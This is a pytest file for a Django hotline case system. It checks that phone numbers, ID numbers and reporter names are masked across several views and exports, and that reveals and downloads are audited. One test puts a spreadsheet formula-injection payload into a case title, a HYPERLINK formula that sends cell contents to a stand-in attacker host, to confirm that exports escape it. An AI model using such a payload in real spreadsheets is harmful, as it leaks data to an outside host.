"""The apps merged after the security work keep its guarantees: the call-back list, the
scoring reports (Excel and their download), the public board, the map points and the caller
history show personal data masked; full values only through an audited reveal."""

from io import BytesIO

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.cases.loop import drive
from tests.frontline import handle
from tests.scoring.handset import AS_OF
from tests.security.conftest import PHONE
from tests.world import PASSWORD, pass_second_factor
from tongxin.cases.models import Case, Channel
from tongxin.cases.services import NewCase, create_case
from tongxin.cases.workflow import State
from tongxin.feedback.services import open_visits
from tongxin.scoring.reports.build import generate
from tongxin.security.models import AuditEntry
from tongxin.security.personal import scrub_text

pytestmark = pytest.mark.django_db
ID_NUMBER = "370402199001011234"
# Phone and ID numbers typed into free text, with separators, and the reporter's own name.
FREE_TEXT = "王小明说 请回电 139-1234-5678，身份证 370402199001011234"


def client_for(world, name):
    client = Client()
    client.force_login(world.user(name))
    pass_second_factor(client)
    return client


def assert_clean(text: str) -> None:
    for secret in ("13912345678", "139-1234-5678", ID_NUMBER, "王小明"):
        assert secret not in text, secret


def test_scrub_text_masks_numbers_in_free_text_but_keeps_case_numbers():
    assert scrub_text("电话 +86 139 1234 5678") == "电话 +** *** **** ****"
    assert scrub_text("座机0531-88886666") == "座机****-********"
    assert scrub_text("单号 20261122000123 邮箱 a.b@x.cn") == "单号 20261122000123 邮箱 *.*@*.**"
    assert_clean(scrub_text(FREE_TEXT, "王小明"))


def test_callback_list_is_masked_until_the_operator_reveals_one_row(world):
    case = drive(world, State.CLOSED, channel=Channel.HOTLINE, reporter_phone=PHONE,
                 reporter_name="张三")
    drive(world, State.CLOSED, channel=Channel.HOTLINE, reporter_phone="13700001111")
    open_visits()
    operator = client_for(world, "operator")
    html = operator.get("/feedback/callbacks/").content.decode()
    assert PHONE not in html and "13700001111" not in html and "138****5678" in html
    assert not AuditEntry.objects.filter(category="personal").exists()
    visit = case.return_visits.get()
    response = operator.post(f"/feedback/visits/{visit.pk}/reveal/")
    html = response.content.decode()
    assert f'href="tel:{PHONE}"' in html and "张三" in html
    assert "13700001111" not in html  # only the row asked for
    assert response["Cache-Control"] == "no-store"
    entry = AuditEntry.objects.get(category="personal", action="reveal")
    assert (entry.actor_name, entry.object_id, entry.detail["channel"]) == (
        "operator", str(case.pk), "callback")
    # Another street's operator cannot reveal it, and a GET reveals nothing.
    assert client_for(world, "street_b").post(f"/feedback/visits/{visit.pk}/reveal/"
                                               ).status_code in (403, 404)
    assert operator.get(f"/feedback/visits/{visit.pk}/reveal/").status_code == 405


def test_report_excel_has_no_personal_data_or_formulas_and_downloads_are_audited(
        world, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    case = create_case(actor=world.user("operator"), new=NewCase(
        channel="hotline", title='=HYPERLINK("http://evil.example/?"&A1,"x") ' + FREE_TEXT,
        reporter_name="王小明", reporter_phone="13912345678", region=world.communities["A1"]))
    # Reworked once, so it is listed in the report.
    Case.objects.filter(pk=case.pk).update(rework_count=1, created_at=AS_OF.replace(day=3))
    report = generate(kind="monthly", region=world.district, start=AS_OF.date().replace(day=1),
                      as_of=AS_OF)
    book = load_workbook(BytesIO(report.xlsx.read()))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    titles = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert titles and all(t.startswith("'=") for t in titles)
    assert not [c for c in cells if c.data_type == "f"]
    assert_clean(" ".join(str(c.value) for c in cells if c.value is not None))

    client = client_for(world, "leader")
    for fmt in ("xlsx", "pdf"):
        response = client.get(f"/scoring/reports/{report.pk}/{fmt}/")
        assert response.status_code == 200
        b"".join(response.streaming_content)
    rows = AuditEntry.objects.filter(category="export", action="export_report")
    assert sorted(r.detail["format"] for r in rows) == ["pdf", "xlsx"]
    assert client_for(world, "street_b").get(
        f"/scoring/reports/{report.pk}/xlsx/").status_code in (403, 404)


def test_public_board_masks_numbers_and_the_reporter_in_free_text(world):
    case = create_case(actor=world.user("operator"), new=NewCase(
        channel="hotline", title="路灯不亮", description=FREE_TEXT, reporter_name="王小明",
        reporter_phone="13912345678", region=world.communities["A1"]))
    handle(world, case, result="已联系 139 1234 5678 修复")
    html = Client().get("/portal/board/").content.decode()
    assert "修复" in html
    assert_clean(html)
    assert "139 1234 5678" not in html


def test_map_points_mask_numbers_in_titles(world):
    create_case(actor=world.user("operator"), new=NewCase(
        channel="hotline", title="噪音扰民 回电139-1234-5678", lat=36.66, lng=117.0,
        region=world.communities["A1"]))
    body = client_for(world, "dispatcher").get(
        "/analytics/api/points.json", {"zoom": 17, "bbox": "116,36,118,37"}).json()
    titles = [i["title"] for i in body["items"]]
    assert titles and all("139-1234-5678" not in t for t in titles)


def test_caller_history_shows_only_the_typed_number_and_is_audited(world):
    create_case(actor=world.user("operator"), new=NewCase(
        channel="hotline", title="停水", reporter_name="王小明", reporter_phone="13912345678",
        reporter_id_number=ID_NUMBER, region=world.communities["A1"]))
    client = Client()
    client.login(username="operator", password=PASSWORD)
    pass_second_factor(client)
    rows = client.get("/api/v1/hotline/callers", {"phone": "13912345678"}).json()
    assert [r["reporter_phone"] for r in rows] == ["13912345678"]
    assert rows[0]["reporter_name"] == "王**" and ID_NUMBER not in str(rows)
    entry = AuditEntry.objects.get(category="personal", action="caller_history")
    assert entry.detail == {"phone": "139****5678", "found": 1}
